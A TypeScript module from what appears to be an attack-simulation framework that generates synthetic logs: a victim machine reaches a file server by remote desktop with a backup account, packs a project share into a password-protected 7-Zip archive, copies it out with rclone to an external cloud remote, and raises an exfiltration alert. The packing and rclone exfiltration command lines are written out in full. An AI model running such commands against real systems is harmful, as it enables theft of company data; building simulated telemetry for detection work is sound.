// How story one reaches the file server, and what leaves it first.

import type { Process } from '../../machines/process.js';
import { hour, type Moment, minute, second } from '../../timeline.js';
import type { World } from '../../world.js';
import { copier, dropBox, packer, victimOf } from './cast.js';

/** By remote desktop to the file server with the backup account; data leaves, then everything is made ready. */
export function crossOver(world: World, at: Moment, beacon: Process): void {
  const { device } = victimOf(world);
  const origin = world.machine(device);
  const server = world.machine(world.company.server('file-server'));
  const account = world.company.services.backup;
  const client = origin.start(at, {
    parent: beacon,
    program: 'mstsc.exe',
    commandLine: `mstsc.exe /v:${server.device.ip} /restrictedAdmin`,
  });
  origin.connect(at + second, client, { to: { ip: server.device.ip, port: 3389, url: '' } });
  const remote = { ip: device.ip, device: device.host };
  server.connect(at + second, server.service('svchost.exe', 'svchost.exe -k termsvcs -s TermService'), {
    action: 'InboundConnectionAccepted',
    to: { ip: device.ip, port: 51_877, url: '' },
    localPort: 3389,
  });
  const logonId = server.logon(at + 4 * second, {
    account,
    type: 'RemoteInteractive',
    protocol: 'NTLM',
    from: remote,
    localAdmin: true,
  });
  world.identity.logon(at + 4 * second, {
    account,
    from: device,
    to: server.device,
    type: 'Remote desktop',
    protocol: 'Ntlm',
  });
  const shell = server.start(at + 8 * second, {
    parent: server.service('winlogon.exe'),
    program: 'explorer.exe',
    commandLine: 'C:\\Windows\\Explorer.EXE',
    account,
    logonId,
    sessionId: 3,
    integrity: 'High',
    elevation: 'TokenElevationTypeFull',
    remote,
  });
  const console = server.start(at + 2 * minute, {
    parent: shell,
    program: 'cmd.exe',
    commandLine: '"C:\\Windows\\system32\\cmd.exe"',
  });
  server.file(at + 3 * minute, shell, {
    folder: packer.folder,
    name: packer.fileName,
    content: packer,
    size: packer.size,
  });
  const pack = server.start(at + 5 * minute, {
    parent: console,
    program: packer,
    commandLine: '7za.exe a C:\\Users\\Public\\1.7z D:\\Shares\\Projects\\* -pQ9vTe2!x -mhe',
  });
  server.file(at + 31 * minute, pack, { folder: 'C:\\Users\\Public', name: '1.7z', size: 4_812_774_400 });
  server.file(at + 32 * minute, shell, {
    folder: copier.folder,
    name: copier.fileName,
    content: copier,
    size: copier.size,
  });
  const copy = server.start(at + 33 * minute, {
    parent: console,
    program: copier,
    commandLine: 'rclone.exe copy C:\\Users\\Public\\1.7z vault:q --transfers 8 --no-check-certificate',
  });
  for (let part = 0; part < 24; part++) server.connect(at + (33 + part) * minute, copy, { to: dropBox });
  world.alerts.raise(at + hour, {
    title: 'Suspicious file copy to an external service',
    category: 'Exfiltration',
    severity: 'Medium',
    techniques: ['Exfiltration to Cloud Storage (T1567.002)'],
    device: server.device,
    account,
    process: copy,
    ip: dropBox.ip,
  });
}
